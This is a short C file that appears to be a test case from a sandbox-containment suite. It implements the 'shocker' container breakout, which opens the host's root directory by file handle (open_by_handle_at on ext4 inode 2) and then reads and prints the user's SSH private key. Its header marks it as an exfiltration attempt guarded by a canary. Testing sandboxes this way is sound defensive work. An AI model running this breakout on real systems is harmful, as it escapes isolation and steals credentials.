/*
 * family: injection
 * tries: open the host file system's root directory by file handle (open_by_handle_at, ext4 root inode 2) from the workspace's mount, then read the user's SSH key from there: the "shocker" container breakout
 * source: http://stealth.openwall.net/xSports/shocker.c
 * exfil: yes
 * stopped-when: canary-unread
 * attempted-when: marker
 *
 * Needs CAP_DAC_READ_SEARCH in the initial user namespace and an ext4
 * (FILEID_INO32_GEN handle) file system under the workspace.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int
main(int argc, char **argv)
{
	struct {
		struct file_handle fh;
		unsigned int ino_gen[2];
	} h;
	char path[4096], buf[65536];
	int root, fd;
	ssize_t n;

	if (argc < 9) {
		fprintf(stderr,
		    "usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES\n");
		return 2;
	}
	fprintf(stderr, "ATTEMPTED %s\n", argv[1]);
	h.fh.handle_bytes = sizeof(h.ino_gen);
	h.fh.handle_type = 1; /* FILEID_INO32_GEN */
	h.ino_gen[0] = 2; /* the root directory's inode, generation 0 */
	h.ino_gen[1] = 0;
	if ((root = open_by_handle_at(AT_FDCWD, &h.fh,
		 O_RDONLY | O_DIRECTORY)) < 0) {
		printf("open_by_handle_at: %s\n", strerror(errno));
		return 1;
	}
	snprintf(path, sizeof(path), "%s/.ssh/id_ed25519", argv[2] + 1);
	if ((fd = openat(root, path, O_RDONLY)) < 0) {
		printf("key from the host root: %s\n", strerror(errno));
		return 1;
	}
	while ((n = read(fd, buf, sizeof(buf))) > 0)
		fwrite(buf, 1, (size_t)n, stdout);
	return 0;
}
